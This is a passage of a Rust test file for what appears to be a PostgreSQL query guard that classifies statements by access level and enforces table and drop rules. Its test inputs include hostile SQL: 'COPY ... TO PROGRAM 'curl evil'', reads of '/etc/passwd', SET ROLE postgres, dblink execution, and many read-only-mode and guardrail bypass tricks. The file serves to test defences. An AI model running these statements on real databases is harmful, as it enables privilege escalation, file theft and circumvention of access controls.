//! The guard's decisions, statement by statement. The e2e tests check the same routes
//! against a real server (tests/e2e/guard.rs, tests/e2e/grammar.rs).

use super::functions::function_call_class;
use super::*;

fn class(sql: &str) -> Class {
    classify(sql)
}

/// A read or session statement, which a read grant runs.
fn assert_runs_under_read(sql: &str) {
    assert!(
        matches!(class(sql), Class::Read | Class::Session),
        "{sql}: {:?}",
        class(sql)
    );
    assert!(check(AccessLevel::Read, sql).is_ok(), "{sql}");
}

#[test]
fn reads() {
    for sql in [
        "select * from t where a = 1",
        "SELECT count(*) FROM pg_catalog.pg_class c WHERE c.relkind = 'r'",
        "show search_path",
        "SELECT c.oid FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid OPERATOR(pg_catalog.=) \
         c.relnamespace WHERE c.relkind OPERATOR(pg_catalog.=) ANY (array['r', 'S']) AND c.relname \
         OPERATOR(pg_catalog.~) '^(items)$' COLLATE pg_catalog.default",
        "explain select 1",
        "explain (analyze false) delete from t",
        "explain (analyze) select * from t",
        "copy t to stdout",
        "copy (select * from t) to stdout with (format csv)",
        "TABLE t",
        "select * from rows from (generate_series(1, 3), generate_series(1, 2)) as x(a, b)",
        "select a from t group by distinct a",
        "select 2 between symmetric 3 and 1",
        "with recursive r(n) as (select 1 union all select n + 1 from r where n < 5) search depth first by n set o select * from r",
        "with recursive r(n) as (select 1 union all select n + 1 from r) cycle n set c using p select * from r limit 3",
        "select xmlelement(name a, xmlattributes(1 as b)), xmlforest(1 as c), xmlparse(document '<a/>')",
        "select concat_ws(variadic array['a', 'b'])",
        "select U&'d!0061t!+000061' UESCAPE '!'",
        "select 'a into b', ' into ' from t",
        "fetch forward 10 from c",
        "move 5 in c",
        "close c",
        "close all",
        "declare c cursor for select * from t",
        "LOCK TABLE public.items IN ACCESS SHARE MODE",
        "SELECT pg_catalog.set_config('search_path', '', false)",
        "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'",
        "select lo_get(16400)",
        "select lo_open(16400, 262144)",
        "select pg_sleep(0)",
        "select query_to_xml('select * from t', true, false, '')",
    ] {
        assert_runs_under_read(sql);
    }
}

#[test]
fn session_control() {
    for sql in [
        "begin",
        "BEGIN ISOLATION LEVEL SERIALIZABLE READ ONLY DEFERRABLE",
        "START TRANSACTION READ ONLY, DEFERRABLE",
        "abort",
        "rollback",
        "commit and chain",
        "savepoint a",
        "set search_path = public",
        "SET client_encoding = 'UTF8'",
        "set client_encoding to 'utf-8'",
        "SET NAMES 'UTF8'",
        "set standard_conforming_strings = on",
        "RESET client_encoding",
        "RESET ALL",
        "set client_encoding to default",
        "SET default_transaction_read_only = on",
        "SET TRANSACTION READ ONLY",
        "discard all",
        "deallocate all",
        "deallocate p",
        "listen x",
        "unlisten *",
        "execute p(1)",
        "prepare p as select 1",
        "prepare q (int) as select * from t where a = $1",
    ] {
        assert_runs_under_read(sql);
    }
}

#[test]
fn writes() {
    for sql in [
        "insert into t values (1)",
        "update t set a = 1",
        "delete from t",
        "merge into t using s on t.a = s.a when matched then delete",
        "select * into t2 from t",
        "select * from t for update",
        "select * from t for key share",
        "with d as (delete from t returning *) select * from d",
        "select * from (select 1) s where exists (select 1 from t for share)",
        "explain analyze delete from t",
        "EXPLAIN (ANALYZE, FORMAT JSON) UPDATE t SET a = 2",
        "explain (analyze true) insert into t values (1)",
        "explain analyze with d as (delete from t returning 1) select * from d",
        "copy t from stdin",
        "copy (delete from t returning *) to stdout",
        "prepare p as delete from t",
        "prepare p as with d as (delete from t returning 1) select 1",
        "select lo_create(0)",
        "select lo_unlink(16400)",
        "select lo_put(16400, 0, 'x')",
        "select lo_from_bytea(0, 'x')",
        "select lo_open(16400, 131072)",
        "select lo_open(16400, 393216)",
        "select \"lo_unlink\"(1)",
        "select U&\"lo\\005funlink\"(1)",
        "select pg_catalog.lo_truncate(0, 0)",
        "select nextval('s')",
        "select setval('s', 1)",
        "select txid_current()",
        "select pg_catalog.pg_current_xact_id()",
        "select pg_advisory_lock(1)",
        "select pg_notify('c', 'x')",
        "notify c",
        "vacuum t",
        "analyze t",
        "refresh materialized view mv",
        "LOCK TABLE items IN EXCLUSIVE MODE",
        "call p()",
        "prepare transaction 'x'",
        "select query_to_xml('delete from t returning 1', true, false, '')",
        "select query_to_xml(current_setting('x'), true, false, '')",
    ] {
        assert_eq!(class(sql), Class::Write, "{sql}");
    }
}

#[test]
fn ddl() {
    for sql in [
        "create table x (a int)",
        "drop table t",
        "truncate t",
        "alter table t add column b int",
        "create index on t (a)",
        "comment on table t is 'x'",
        "grant select on t to public",
        "create function f() returns int language sql as 'select 1'",
    ] {
        assert_eq!(class(sql), Class::Ddl, "{sql}");
    }
}

#[test]
fn read_only_mode_cannot_be_left_under_read() {
    let check = |sql: &str, rule: &'static str| {
        assert_eq!(class(sql), Class::ReadOnlyEscape(rule), "{sql}");
        let refusal = check(AccessLevel::Read, sql).expect_err(sql);
        assert_eq!(refusal.rule, rule, "{sql}");
        assert!(check(AccessLevel::Write, sql).is_ok(), "{sql}");
    };
    check(
        "set default_transaction_read_only = off",
        "read_only_setting",
    );
    check(
        "SET SESSION default_transaction_read_only TO off",
        "read_only_setting",
    );
    check("set transaction_read_only = 0", "read_only_setting");
    check(
        "SET \"default_transaction_read_only\" = false",
        "read_only_setting",
    );
    check(
        "select set_config('default_transaction_read_only', 'off', false)",
        "escaping_function",
    );
    check(
        "select set_config('DEFAULT_TRANSACTION_READ_ONLY'::pg_catalog.text, 'off', false)",
        "escaping_function",
    );
    check(
        "select set_config(E'default\\x5ftransaction_read_only', 'off', false)",
        "escaping_function",
    );
    check(
        "select set_config($$transaction_read_only$$, 'off', true)",
        "escaping_function",
    );
    check("select set_config(setting_name => 'transaction_read_only', new_value => 'off', is_local => true)", "escaping_function");
    check(
        "select \"set_config\"('transaction_read_only', 'off', true)",
        "escaping_function",
    );
    check("BEGIN READ WRITE", "read_write_transaction");
    check(
        "start transaction isolation level serializable, read write",
        "read_write_transaction",
    );
    check("SET TRANSACTION READ WRITE", "read_write_transaction");
    check(
        "set session characteristics as transaction read write",
        "read_write_transaction",
    );
    check(
        "declare c cursor with hold for select 1",
        "cursor_with_hold",
    );
}

#[test]
fn escalations_are_named() {
    let check =
        |sql: &str, rule: &'static str| assert_eq!(class(sql), Class::Escalation(rule), "{sql}");
    check("SET ROLE postgres", "role_change");
    check("set local role postgres", "role_change");
    check("SET SESSION AUTHORIZATION postgres", "role_change");
    check("RESET ROLE", "role_change");
    check(
        "select set_config('role', 'postgres', false)",
        "escaping_function",
    );
    check("ALTER SYSTEM SET work_mem = '1GB'", "alter_system");
    check("COPY t TO PROGRAM 'curl evil'", "copy_program");
    check("copy t from '/etc/passwd'", "copy_file");
    check("copy t to '/tmp/x'", "copy_file");
    check("CREATE EXTENSION dblink", "create_extension");
    check("LOAD 'auto_explain'", "load");
    check("DO $$ BEGIN PERFORM 1; END $$", "do_block");
    check(
        "select pg_catalog.pg_read_file('/etc/passwd')",
        "escaping_function",
    );
    check("SELECT lo_import('/etc/passwd')", "escaping_function");
    check("select lo_export(1, '/tmp/x')", "escaping_function");
    check("select pg_terminate_backend(1)", "escaping_function");
    check("select pg_reload_conf()", "escaping_function");
    check(
        "select * from dblink('host=x', 'delete from t') as t(a int)",
        "escaping_function",
    );
    check("select public.dblink_exec('x', 'y')", "escaping_function");
    check("create role x", "role_management");
    check(
        "alter role app_read set default_transaction_read_only = off",
        "role_management",
    );
    // A publication's tables go to other servers' subscriptions; a slot's changes hold
    // every table's new rows.
    check("CREATE PUBLICATION p FOR ALL TABLES", "remote_server");
    check(
        "CREATE PUBLICATION p FOR TABLES IN SCHEMA hr",
        "remote_server",
    );
    check("ALTER PUBLICATION p ADD TABLE items", "remote_server");
    check(
        "SELECT data FROM pg_logical_slot_peek_changes('cdc', NULL, NULL)",
        "escaping_function",
    );
}

#[test]
fn lexer_settings_are_refused_at_every_level_and_no_ops_allowed() {
    for sql in [
        "SET standard_conforming_strings = off",
        "set session standard_conforming_strings to off",
        "SET backslash_quote = on",
        "SET client_encoding = 'SJIS'",
        "SET client_encoding = 'LATIN1'",
        "SET NAMES 'SJIS'",
        "set local client_encoding = sjis",
        "select set_config('standard_conforming_strings', 'off', false)",
        "select set_config('client_encoding', 'SJIS', false)",
        "select set_config(U&'client\\005fencoding', 'SJIS', false)",
        "select set_config('client_encoding', lower('SJIS'), false)",
        "create function f() returns int language sql set client_encoding = 'SJIS' as 'select 1'",
        "alter function f() set standard_conforming_strings = off",
        "alter database x set client_encoding = 'SJIS'",
        "alter role x set standard_conforming_strings = off",
        "prepare p as select set_config('client_encoding', 'SJIS', false)",
        "update pg_settings set setting = 'off' where name = 'transaction_read_only'",
        "select set_config(lower('ROLE'), 'postgres', false)",
    ] {
        assert_eq!(class(sql), Class::Forbidden("lexer_setting"), "{sql}");
        assert!(check(AccessLevel::Admin, sql).is_err(), "{sql}");
    }
    for sql in [
        "SET client_encoding = 'UTF8'",
        "select set_config('client_encoding', 'UTF8', false)",
        "RESET standard_conforming_strings",
    ] {
        assert!(check(AccessLevel::Read, sql).is_ok(), "{sql}");
    }
}

#[test]
fn grants() {
    let ok = |access, sql: &str| assert!(check(access, sql).is_ok(), "{access:?} {sql}");
    let no = |access, sql: &str, rule: &str| {
        let refusal = check(access, sql).expect_err(sql);
        assert_eq!(refusal.rule, rule, "{sql}");
        assert!(refusal.message.contains(rule));
    };
    ok(AccessLevel::Read, "select 1");
    no(AccessLevel::Read, "update t set a = 1", "read_only");
    no(AccessLevel::Read, "create table x (a int)", "read_only");
    no(AccessLevel::Read, "not sql at all", "unparsable");
    ok(AccessLevel::Write, "update t set a = 1");
    ok(AccessLevel::Write, "create index on t (a)");
    no(AccessLevel::Write, "set role postgres", "role_change");
    no(AccessLevel::Write, "not sql at all", "unparsable");
    ok(AccessLevel::Admin, "set role postgres");
    ok(AccessLevel::Admin, "not sql at all");
}

#[test]
fn a_query_string_is_analysed_statement_by_statement() {
    let sql = "select 1; /* c */ delete from t; ";
    let all = analyze_query(sql);
    let texts: Vec<&str> = all.iter().map(|s| &sql[s.range.clone()]).collect();
    assert_eq!(texts, ["select 1", "/* c */ delete from t"]);
    assert_eq!(all[0].analysis.class, Class::Read);
    assert_eq!(all[1].analysis.class, Class::Write);
    // A statement hidden where another lexer sees a comment is still seen.
    let hidden = analyze_query("select 1 */* ; */ 2; delete from t");
    assert_eq!(hidden.len(), 2);
    assert_eq!(hidden[1].analysis.class, Class::Write);
    // Nothing at all: one empty statement.
    let empty = analyze_query("  -- nothing\n");
    assert_eq!(empty.len(), 1);
    assert_eq!(empty[0].analysis.kind, StatementKind::Empty);
    // The grammar rejects it: one unknown statement, the whole string.
    let rejected = analyze_query("select 1; frobnicate");
    assert_eq!(rejected.len(), 1);
    assert_eq!(rejected[0].range, 0..20);
    assert_eq!(rejected[0].analysis.class, Class::Unknown);
    // A Parse with two statements can only fail at the server.
    assert_eq!(analyze("select 1; select 2").class, Class::Unknown);
}

#[test]
fn kinds() {
    let kind = |sql: &str| analyze(sql).kind;
    assert_eq!(kind("select * from t"), StatementKind::Select);
    assert_eq!(
        kind("with x as (select 1) select * from x"),
        StatementKind::Select
    );
    assert_eq!(kind("insert into t values (1)"), StatementKind::Insert);
    assert_eq!(
        kind("update t set a = 1 where b = 2"),
        StatementKind::Update
    );
    assert_eq!(kind("delete from t"), StatementKind::Delete);
    assert_eq!(kind("create table t (a int)"), StatementKind::Ddl);
    assert_eq!(kind("begin"), StatementKind::Other);
    assert_eq!(kind("this is not sql"), StatementKind::Unknown);
    assert_eq!(
        prepared_kind("PREPARE p AS DELETE FROM t"),
        StatementKind::Delete
    );
    assert!(declares_held_cursor(
        "declare c cursor with hold for select 1"
    ));
    assert!(!declares_held_cursor("declare c cursor for select 1"));
}

#[test]
fn copy_from_stdin_is_told_apart() {
    let copy_in = |sql: &str| analyze(sql).facts.copy_in;
    assert!(copy_in("copy t from stdin"));
    assert!(copy_in("COPY s.t (a, b) FROM STDIN WITH (FORMAT csv)"));
    assert!(!copy_in("copy t to stdout"));
    assert!(!copy_in("copy (select 1) to stdout"));
    assert!(!copy_in("copy t from '/tmp/x'"));
    assert!(!copy_in("copy t from program 'true'"));
    assert!(!copy_in("select 'copy t from stdin'"));
}

#[test]
fn names_changes() {
    let names = |sql: &str| analyze(sql).facts.names;
    assert_eq!(
        names("prepare p as select 1"),
        Some(NameChange::Prepare("p".into()))
    );
    assert_eq!(
        names("EXECUTE \"P\"(1)"),
        Some(NameChange::Execute("P".into()))
    );
    assert_eq!(
        names("explain analyze execute p"),
        Some(NameChange::Execute("p".into()))
    );
    assert_eq!(
        names("deallocate prepare p"),
        Some(NameChange::Deallocate(Some("p".into())))
    );
    assert_eq!(names("deallocate all"), Some(NameChange::Deallocate(None)));
    assert_eq!(
        names("declare c cursor for select 1"),
        Some(NameChange::Declare("c".into()))
    );
    assert_eq!(names("close all"), Some(NameChange::Close(None)));
    assert_eq!(names("discard all"), Some(NameChange::DiscardAll));
    assert_eq!(names("discard plans"), None);
    // Run below the top: every nesting the grammar allows is the same name check.
    for sql in [
        "create table t as execute p",
        "create temp table if not exists t as execute p(1) with no data",
        "explain analyze create temp table t as execute p",
        "explain (analyze, verbose) create table t as execute p",
    ] {
        assert_eq!(names(sql), Some(NameChange::Execute("p".into())), "{sql}");
    }
    // An EXPLAIN that only plans runs nothing.
    assert_eq!(names("explain create table t as execute p"), None);
    assert_eq!(names("explain (analyze off) execute p"), None);
}

#[test]
fn database_rules() {
    let rules = Guardrails {
        deny_drop: true,
        deny_truncate: true,
        deny_delete_without_where: true,
        deny_update_without_where: true,
        off_limits: vec!["payroll".into(), "hr.*".into(), "audit.log".into()],
    };
    let check = |sql: &str, expected: Option<&str>| {
        let got = check_rules(&rules, &analyze(sql).facts)
            .err()
            .map(|r| r.rule);
        assert_eq!(got, expected, "{sql}");
    };
    check("drop table t", Some("deny_drop"));
    check("truncate t", Some("deny_truncate"));
    check("delete from t", Some("delete_without_where"));
    check("delete from t where id = 1", None);
    check("update t set a = 1", Some("update_without_where"));
    check("update t set a = 1 where id = 2", None);
    // Seen through EXPLAIN ANALYZE, CTEs, PREPARE and COPY.
    check(
        "explain analyze delete from t",
        Some("delete_without_where"),
    );
    check(
        "with d as (delete from t returning 1) select * from d",
        Some("delete_without_where"),
    );
    check(
        "prepare p as update t set a = 1",
        Some("update_without_where"),
    );
    check("copy payroll to stdout", Some("off_limits"));
    check("copy (select * from payroll) to stdout", Some("off_limits"));
    check("select * from payroll", Some("off_limits"));
    check(
        "select * from public.payroll p join x on true",
        Some("off_limits"),
    );
    check("select * from hr.salaries", Some("off_limits"));
    check("select * from \"HR\".people", Some("off_limits"));
    check("select * from audit.log", Some("off_limits"));
    check("select * from audit.events", None);
    check("select * from hrx.people", None);
    // pg_dump's share lock of every table it dumps reads nothing; any stronger lock of a
    // protected table would hold up the customer's own work on it.
    check("lock table payroll in access share mode", None);
    check(
        "lock table hr.salaries, t in access share mode nowait",
        None,
    );
    check("lock table payroll", Some("off_limits"));
    check("lock table payroll in share mode", Some("off_limits"));
    check(
        "lock table hr.salaries in row exclusive mode",
        Some("off_limits"),
    );
    check(
        "select * from t where id in (select id from payroll)",
        Some("off_limits"),
    );
    check(
        "select table_to_xml('payroll', true, false, '')",
        Some("off_limits"),
    );
    check(
        "select query_to_xml('select * from payroll', true, false, '')",
        Some("off_limits"),
    );
    check(
        "select schema_to_xml('public', true, false, '')",
        Some("off_limits"),
    );
    // What the rules cannot see into is refused while rules are in force.
    check(
        "do $$ begin delete from t; end $$",
        Some("opaque_statement"),
    );
    check("call cleanup()", Some("opaque_statement"));
    // Tables read by a name computed at run time may run the database's functions.
    let deny_only = Guardrails {
        deny_drop: true,
        ..Guardrails::default()
    };
    for sql in [
        "select schema_to_xml('public', true, false, '')",
        "select database_to_xml(true, false, '')",
        "select table_to_xml(to_regclass(concat('v_', 'probe')), true, false, '')",
    ] {
        let refusal = check_rules(&deny_only, &analyze(sql).facts).expect_err(sql);
        assert_eq!(refusal.rule, "opaque_statement", "{sql}");
    }
    assert!(check_rules(
        &deny_only,
        &analyze("select table_to_xml('items', true, false, '')").facts
    )
    .is_ok());
    check("select public.wipe()", Some("opaque_statement"));
    check("select my_function(1)", Some("opaque_statement"));
    check(
        "select lower('A'), now(), count(*) from t where id = 1",
        None,
    );
    let none = Guardrails::default();
    assert!(check_rules(&none, &analyze("drop table t").facts).is_ok());
    assert!(check_rules(&none, &analyze("select my_function(1)").facts).is_ok());
}

#[test]
fn settings_facts_name_what_changes() {
    let settings = |sql: &str| analyze(sql).facts.settings.to_vec();
    assert_eq!(settings("set statement_timeout = 0"), ["statement_timeout"]);
    assert_eq!(
        settings("SET LOCAL \"statement_timeout\" TO 0"),
        ["statement_timeout"]
    );
    assert_eq!(
        settings("select set_config('STATEMENT_TIMEOUT', '0', false)"),
        ["statement_timeout"]
    );
    assert_eq!(settings("reset statement_timeout"), ["statement_timeout"]);
}

#[test]
fn function_calls_by_oid() {
    use crate::wire::ParamValue;
    let mode = |m: i32| ParamValue::Binary(m.to_be_bytes().to_vec());
    let oid = ParamValue::Binary(16400i32.to_be_bytes().to_vec());
    assert_eq!(
        function_call_class(952, &[oid.clone(), mode(0x40000)]),
        Some(("lo_open", Class::Read))
    );
    assert_eq!(
        function_call_class(952, &[oid, mode(0x60000)]),
        Some(("lo_open", Class::Write))
    );
    assert_eq!(function_call_class(954, &[]), Some(("loread", Class::Read)));
    assert_eq!(
        function_call_class(955, &[]),
        Some(("lowrite", Class::Write))
    );
    assert_eq!(
        function_call_class(764, &[]),
        None,
        "lo_import is not a read"
    );
    // Any other OID may be anything: admin only, and never where the database has rules.
    let deny_drop = Guardrails {
        deny_drop: true,
        ..Guardrails::default()
    };
    let off_limits = Guardrails {
        off_limits: vec!["secret".into()],
        ..Guardrails::default()
    };
    let (name, unknown) = super::function_call_analysis(2924, &[]);
    assert_eq!(name, None);
    assert!(check_analysis(AccessLevel::Admin, &Guardrails::default(), &unknown).is_ok());
    assert!(check_analysis(AccessLevel::Write, &Guardrails::default(), &unknown).is_err());
    for (rules, rule) in [
        (&deny_drop, "opaque_statement"),
        (&off_limits, "off_limits"),
    ] {
        let refusal = check_analysis(AccessLevel::Admin, rules, &unknown).expect_err(rule);
        assert_eq!(refusal.rule, rule);
    }
    let (name, lo_read) = super::function_call_analysis(954, &[]);
    assert_eq!(name, Some("loread"));
    assert!(check_analysis(AccessLevel::Read, &off_limits, &lo_read).is_ok());
}

#[test]
fn read_corpus_is_allowed() {
    let corpus = include_str!("../../tests/corpus/read_allowed.sql");
    let statements = crate::sql::split_statements(corpus);
    assert!(
        statements.len() >= 45,
        "corpus has {} statements",
        statements.len()
    );
    for statement in statements {
        let verdict = check(AccessLevel::Read, statement);
        assert!(
            verdict.is_ok(),
            "refused under read: {verdict:?}\n{statement}"
        );
    }
}

#[test]
fn attack_findings_stay_closed() {
    // RESET of transaction_read_only returns it to its boot value, off.
    for sql in [
        "RESET transaction_read_only",
        "SET transaction_read_only TO DEFAULT",
    ] {
        assert_eq!(
            check(AccessLevel::Read, sql).expect_err(sql).rule,
            "read_only_setting"
        );
    }
    // pg_dump's set_config form is recognised only as pg_dump writes it.
    assert_eq!(
        class(
            "SELECT (SELECT set_config(name, 'off', false) FROM (VALUES ('standard_conforming_strings')) v(name)) \
             FROM pg_settings WHERE name = 'work_mem'"
        ),
        Class::Forbidden("lexer_setting")
    );
    // Functions called in attribute or column notation.
    for sql in [
        "SELECT (4711::oid).lo_create",
        "SELECT (4711::oid).lo_unlink",
        "SELECT (770077::bigint).pg_advisory_lock",
        "SELECT x.nextval FROM (SELECT 's'::regclass) x",
    ] {
        assert!(check(AccessLevel::Read, sql).is_err(), "{sql}");
    }
    assert_eq!(
        class("SELECT ('x').set_config"),
        Class::Forbidden("lexer_setting")
    );
    // DROP OWNED drops.
    assert!(analyze("DROP OWNED BY lockbox_write").facts.drop);
}

#[test]
fn pg_dumps_setting_from_pg_settings_is_read_only_from_the_catalogs_view() {
    let pg_dumps = "SELECT set_config(name, 'view, foreign-table', false) FROM pg_settings \
                    WHERE name = 'restrict_nonsystem_relation_kind'";
    assert_eq!(class(pg_dumps), Class::Read);
    assert!(analyze(pg_dumps).facts.setting_named_by_catalog_row);
    let qualified = pg_dumps.replace("FROM pg_settings", "FROM pg_catalog.pg_settings");
    assert_eq!(class(&qualified), Class::Read);
    assert!(!analyze(&qualified).facts.setting_named_by_catalog_row);
    // A CTE of that name, or a literal no setting is spelled as (a `char` column's `=`
    // ignores trailing blanks), says nothing of which setting the row names.
    for sql in [
        "WITH pg_settings AS (SELECT 'search_path'::char(20) AS name) \
         SELECT set_config(name, 'hr', false) FROM pg_settings WHERE name = 'search_path  '",
        "SELECT set_config(name, 'hr', false) FROM pg_settings WHERE name = 'work_mem '",
        "SELECT set_config(name, 'hr', false) FROM pg_settings WHERE name = 'Work_Mem'",
        "SELECT set_config(name, 'hr', false) FROM pg_settings WHERE name = ''",
        // A sort evaluates every row's WHERE before any row's set_config.
        "SELECT set_config(name, 'hr', false) FROM pg_settings WHERE name = 'x.f' ORDER BY g",
        "SELECT DISTINCT set_config(name, 'hr', false) FROM pg_settings WHERE name = 'x.f'",
        "SELECT set_config(name, 'hr', false) FROM pg_settings WHERE name = 'x.f' LIMIT 5",
        // A view over it is written through its rule's set_config.
        "CREATE TEMP VIEW myset AS SELECT name, setting FROM pg_catalog.pg_settings",
        "CREATE VIEW v AS SELECT * FROM pg_settings WHERE name = 'work_mem'",
        // Nested in CREATE SCHEMA, an element is judged as the statement it is.
        "CREATE SCHEMA s5 CREATE VIEW w AS SELECT name, setting FROM pg_settings",
    ] {
        assert_eq!(class(sql), Class::Forbidden("lexer_setting"), "{sql}");
    }
    let trigger = "CREATE SCHEMA s6 CREATE TABLE tt (a int) \
                   CREATE TRIGGER t BEFORE INSERT ON tt FOR EACH ROW EXECUTE FUNCTION touch()";
    assert_eq!(
        analyze(trigger).facts.opaque,
        Some("installing code that runs later")
    );
    assert_eq!(class("CREATE SCHEMA s7 CREATE TABLE t (a int)"), Class::Ddl);
    // Run from text, it is still read from whatever pg_settings finds.
    let wrapped = format!(
        "SELECT query_to_xml('{}', false, false, '')",
        pg_dumps.replace('\'', "''")
    );
    assert!(
        analyze(&wrapped).facts.setting_named_by_catalog_row,
        "{wrapped}"
    );
}

#[test]
fn deep_and_wide_reads_are_read_not_unparsable() {
    let wide = ["name", "','", "id::text"]
        .into_iter()
        .cycle()
        .take(300)
        .collect::<Vec<_>>()
        .join(" || ");
    assert_eq!(class(&format!("SELECT {wide} FROM items")), Class::Read);
    let nested = format!("SELECT {}1{}", "(".repeat(2000), ")".repeat(2000));
    assert_eq!(class(&nested), Class::Read);
    let cases = (0..200).fold("1".to_owned(), |e, i| {
        format!("CASE WHEN a = {i} THEN {e} ELSE 0 END")
    });
    assert_eq!(class(&format!("SELECT {cases} FROM t")), Class::Read);
    // Deeper than PostgreSQL's stack-depth check allows: rejected, not a crash.
    let too_deep = ["a"; 20_000].join(" || ");
    assert_eq!(class(&format!("SELECT {too_deep}")), Class::Unknown);
    let too_nested = format!("SELECT {}1{}", "(".repeat(200_000), ")".repeat(200_000));
    assert_eq!(class(&too_nested), Class::Unknown);
}

#[test]
fn more_attack_findings_stay_closed() {
    let rules = Guardrails {
        off_limits: vec!["secrets".into()],
        deny_delete_without_where: true,
        ..Guardrails::default()
    };
    let rule = |sql: &str| {
        check_rules(&rules, &analyze(sql).facts)
            .err()
            .map(|r| r.rule)
    };
    for sql in [
        "SELECT table_to_xml(' secrets', true, false, '')",
        "SELECT table_to_xml('public . secrets', true, false, '')",
        "SELECT table_to_xml('\"secrets\"', true, false, '')",
        "SELECT table_to_xml(16384, true, false, '')",
        "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, plainto_tsquery(value) FROM secrets')",
    ] {
        assert_eq!(rule(sql), Some("off_limits"), "{sql}");
    }
    assert_eq!(
        rule("SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, 'b'::tsquery)"),
        None
    );
    for sql in [
        "CREATE FUNCTION pg_temp.wipe(int, int) RETURNS int LANGUAGE sql AS 'DELETE FROM items; SELECT 1'",
        "CREATE OPERATOR pg_temp.### (leftarg = int, rightarg = int, function = pg_temp.wipe)",
        "CREATE TRIGGER t AFTER INSERT ON items FOR EACH ROW EXECUTE FUNCTION f()",
        "CREATE RULE r AS ON INSERT TO items DO ALSO DELETE FROM items WHERE id = 1",
    ] {
        assert_eq!(rule(sql), Some("opaque_statement"), "{sql}");
    }
    // A body PostgreSQL parses is seen: its DELETE without WHERE is caught as such.
    assert_eq!(
        rule("CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM items; END"),
        Some("delete_without_where")
    );
    assert_eq!(
        analyze("FETCH ALL IN \"<unnamed portal 1>\"").facts.names,
        Some(NameChange::Fetch("<unnamed portal 1>".into()))
    );
}

#[test]
fn lexing_stability() {
    let stable = |sql: &str| lexing_is_stable(sql, &analyze_query(sql));
    assert!(stable("select 1; select 2"));
    assert!(
        stable("select 'a\\d+' ~ 'x'"),
        "a backslash that splits the same way"
    );
    assert!(!stable("SELECT 'x\\', ' ; SELECT lo_create(4242); -- '"));
    assert!(
        !stable("select 'é\\'"),
        "a backslash next to non-ASCII text"
    );
}

#[test]
fn catalog_reads_are_told_apart() {
    let catalog = |sql: &str| analyze(sql).facts.catalog_only;
    assert!(catalog("SELECT c.oid, c.relname FROM pg_catalog.pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace"));
    assert!(catalog("SELECT * FROM information_schema.tables"));
    assert!(!catalog("SELECT * FROM items"));
    assert!(!catalog("SELECT * FROM pg_class, items"));
    assert!(
        !catalog("SELECT generate_series(1, 1000000)"),
        "no relation: counted"
    );
    assert!(!catalog(
        "SELECT query_to_xml('select * from items', true, false, '') FROM pg_class"
    ));
    assert!(!catalog("SELECT public.f() FROM pg_class"));
}

#[test]
fn only_what_the_server_resolves_to_a_catalog_is_one() {
    let catalog = |sql: &str| analyze(sql).facts.catalog_only;
    // information_schema is on no search path: an unqualified name of one of its views is
    // the customer's table of that name.
    assert!(!catalog("SELECT * FROM parameters"));
    assert!(!catalog("SELECT * FROM tables"));
    assert!(catalog("SELECT * FROM information_schema.parameters"));
    // Quoted names are case-sensitive: these are not the catalogs.
    assert!(!catalog(r#"SELECT * FROM "PG_CLASS""#));
    assert!(!catalog(r#"SELECT * FROM "PG_CATALOG".pg_class"#));
    assert!(!catalog(r#"SELECT * FROM "INFORMATION_SCHEMA".tables"#));
    // Large objects are stored data, whatever table lists them.
    assert!(!catalog(
        "SELECT l.oid, pg_catalog.lo_get(l.oid) FROM pg_catalog.pg_largeobject_metadata l"
    ));
    assert!(!catalog("SELECT loread(0, 100) FROM pg_class"));
    // A table named in a call's argument is read as the server reads a regclass.
    assert!(!catalog(
        r#"SELECT table_to_xml('"PG_CLASS"', true, false, '')"#
    ));
    // What lets an unqualified catalog name find another relation later.
    let shadows = |sql: &str| analyze(sql).facts.may_shadow_catalog;
    assert!(shadows(
        "CREATE TABLE pg_temp_3.pg_class AS SELECT * FROM items"
    ));
    assert!(shadows("CREATE TABLE pg_temp.pg_class (id int)"));
    assert!(shadows("CREATE TEMP TABLE pg_class (id int)"));
    assert!(shadows("SET search_path = public, pg_catalog"));
    assert!(shadows(
        "SELECT set_config('search_path', 'public, pg_catalog', false)"
    ));
    assert!(shadows(
        "SELECT set_config('search_path', current_user, false)"
    ));
    assert!(!shadows("SET search_path = public"));
    assert!(!shadows("SET search_path = pg_catalog, public"));
    assert!(!shadows(
        "SELECT pg_catalog.set_config('search_path', '', false)"
    ));
    assert!(!shadows("SELECT * FROM pg_class"));
    // Quoted names are exact: `"PG_CATALOG"` and `"pg_catalog,x"` are other schemas, and
    // the real pg_catalog comes after them.
    assert!(shadows(
        r#"SET search_path = "PG_CATALOG", public, pg_catalog"#
    ));
    assert!(shadows(
        r#"SET search_path = "pg_catalog,x", public, pg_catalog"#
    ));
    assert!(shadows(
        r#"SELECT set_config('search_path', '"pg_catalog,x", public, pg_catalog', false)"#
    ));
    assert!(shadows(
        r#"SELECT set_config('search_path', '"PG_CATALOG", public, pg_catalog', false)"#
    ));
    assert!(!shadows(r#"SET search_path = "PG_CATALOG", public"#));
    assert!(!shadows(
        "SELECT set_config('search_path', 'pg_catalog, public', false)"
    ));
    // Whitespace the server does not skip is part of a name.
    for value in [
        "E'\\x0bpg_catalog, public, pg_catalog'",
        "'pg_catalog\u{a0}, public, pg_catalog'",
        "'\u{a0}pg_catalog, public, pg_catalog'",
    ] {
        let sql = format!("SELECT set_config('search_path', {value}, false)");
        assert!(shadows(&sql), "{sql}");
    }
}

#[test]
fn second_review_findings_stay_closed() {
    let rules = Guardrails {
        deny_drop: true,
        deny_delete_without_where: true,
        deny_update_without_where: true,
        off_limits: vec!["public.secrets".into(), "hr.*".into()],
        ..Guardrails::default()
    };
    let rule = |sql: &str| {
        check_rules(&rules, &analyze(sql).facts)
            .err()
            .map(|r| r.rule)
    };
    for (sql, expected) in [
        ("MERGE INTO items USING items AS s ON items.id = s.id WHEN MATCHED THEN DELETE", "delete_without_where"),
        ("MERGE INTO items USING items AS s ON items.id = s.id WHEN MATCHED THEN UPDATE SET name = 'w'", "update_without_where"),
        ("INSERT INTO items SELECT id, 'w' FROM items ON CONFLICT (id) DO UPDATE SET name = excluded.name", "update_without_where"),
        ("SELECT 1 OPERATOR(public.===) ANY (SELECT 1)", "opaque_statement"),
        ("SELECT (i).wipe FROM items i", "opaque_statement"),
